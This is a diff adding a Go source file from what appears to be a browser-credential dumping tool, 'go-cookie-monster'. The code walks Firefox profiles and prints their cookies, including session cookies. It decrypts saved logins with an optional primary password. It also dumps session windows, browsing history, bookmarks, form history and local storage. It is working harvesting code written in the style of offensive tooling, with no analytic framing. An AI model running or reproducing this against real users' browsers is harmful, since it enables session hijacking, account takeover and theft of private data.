@@ -0,0 +1,164 @@
+package cookiemonster
+
+import (
+	"fmt"
+	"go-cookie-monster/pkg/decrypt"
+	"go-cookie-monster/pkg/firefox"
+	"go-cookie-monster/pkg/webstorage"
+	"log"
+	"os"
+	"path/filepath"
+)
+
+func ProcessFirefoxMode(profileDir, format, primaryPassword string) {
+	var err error
+
+	// If no directory is provided, use the current user's Firefox directory
+	if profileDir == "" {
+		profileDir, err = BuildFirefoxPath()
+		if err != nil {
+			log.Fatalf("Error building Firefox path: %v", err)
+		}
+	}
+
+	profiles := []firefox.Profile{{Name: filepath.Base(profileDir), Path: profileDir}}
+	if firefox.IsFirefoxDir(profileDir) {
+		profiles, err = firefox.FindProfiles(profileDir)
+		if err != nil {
+			log.Fatalf("error reading Firefox profiles: %v", err)
+		}
+	}
+
+	for _, profile := range profiles {
+		fmt.Printf("\n[*] Attempting to read Firefox profile %q: \"%s\"\n", profile.Name, profile.Path)
+
+		session, err := firefox.ReadSession(profile.Path)
+		if err != nil && !os.IsNotExist(err) {
+			log.Printf("[-] Error reading session store: %v", err)
+		}
+
+		processFirefoxCookies(profile, session, format)
+		processFirefoxLogins(profile, primaryPassword)
+		processFirefoxSession(session)
+		processFirefoxHistory(profile)
+		processFirefoxFormHistory(profile)
+		processFirefoxStorage(profile)
+	}
+}
+
+// processFirefoxCookies prints the profile's persistent cookies together with the session
+// cookies that only exist in the session store
+func processFirefoxCookies(profile firefox.Profile, session *firefox.SessionJSONFormatter, format string) {
+	cookies, err := firefox.ReadCookies(profile.Path)
+	if err != nil {
+		log.Printf("[-] Error reading cookies: %v", err)
+	}
+	if session != nil {
+		cookies = append(cookies, session.Cookies...)
+	}
+	if len(cookies) == 0 && err != nil {
+		return
+	}
+
+	formatter, err := decrypt.NewCookieFormatter(format, cookies)
+	if err != nil {
+		log.Fatalf("error creating cookie formatter: %v", err)
+	}
+	output, err := formatter.Format()
+	if err != nil {
+		log.Fatalf("error formatting cookies: %v", err)
+	}
+
+	fmt.Printf("[+] Read %d cookies:\n", len(cookies))
+	fmt.Println(output)
+}
+
+func processFirefoxLogins(profile firefox.Profile, primaryPassword string) {
+	logins, rowErrs, err := firefox.ReadLogins(profile.Path, primaryPassword)
+	if os.IsNotExist(err) {
+		fmt.Println("[*] Profile has no saved logins")
+		return
+	}
+	if err != nil {
+		log.Printf("[-] Error decrypting logins: %v", err)
+		return
+	}
+	for _, err := range rowErrs {
+		log.Printf("[-] Error extracting login: %v", err)
+	}
+
+	formatter := &decrypt.LoginJSONFormatter{Logins: logins}
+	output, err := formatter.Format()
+	if err != nil {
+		log.Fatalf("error formatting logins: %v", err)
+	}
+
+	fmt.Printf("[+] Decrypted %d logins:\n", len(logins))
+	fmt.Println(output)
+}
+
+func processFirefoxSession(session *firefox.SessionJSONFormatter) {
+	if session == nil {
+		return
+	}
+
+	output, err := session.Format()
+	if err != nil {
+		log.Fatalf("error formatting session: %v", err)
+	}
+
+	fmt.Printf("[+] Read %d windows and %d closed windows from %s:\n", len(session.Windows), len(session.ClosedWindows), session.Source)
+	fmt.Println(output)
+}
+
+func processFirefoxHistory(profile firefox.Profile) {
+	history, err := firefox.ReadHistory(profile.Path)
+	if err != nil {
+		log.Printf("[-] Error reading history: %v", err)
+		return
+	}
+
+	output, err := history.Format()
+	if err != nil {
+		log.Fatalf("error formatting history: %v", err)
+	}
+
+	fmt.Printf("[+] Read %d history URLs, %d visits and %d bookmarks:\n", len(history.URLs), len(history.Visits), len(history.Bookmarks))
+	fmt.Println(output)
+}
+
+func processFirefoxFormHistory(profile firefox.Profile) {
+	entries, err := firefox.ReadFormHistory(profile.Path)
+	if err != nil {
+		log.Printf("[-] Error reading form history: %v", err)
+		return
+	}
+
+	formatter := &decrypt.WebDataJSONFormatter{Autofill: entries}
+	output, err := formatter.Format()
+	if err != nil {
+		log.Fatalf("error formatting form history: %v", err)
+	}
+
+	fmt.Printf("[+] Read %d form history entries:\n", len(entries))
+	fmt.Println(output)
+}
+
+func processFirefoxStorage(profile firefox.Profile) {
+	records, err := firefox.ReadLocalStorage(profile.Path)
+	if err != nil {
+		if !os.IsNotExist(err) {
+			log.Printf("[-] Error reading local storage: %v", err)
+		}
+		return
+	}
+
+	formatter := &webstorage.JSONFormatter{Records: records}
+	output, err := formatter.Format()
+	if err != nil {
+		log.Fatalf("error formatting storage records: %v", err)
+	}
+
+	fmt.Printf("[+] Extracted %d local storage records:\n", len(records))
+	fmt.Println(output)
+}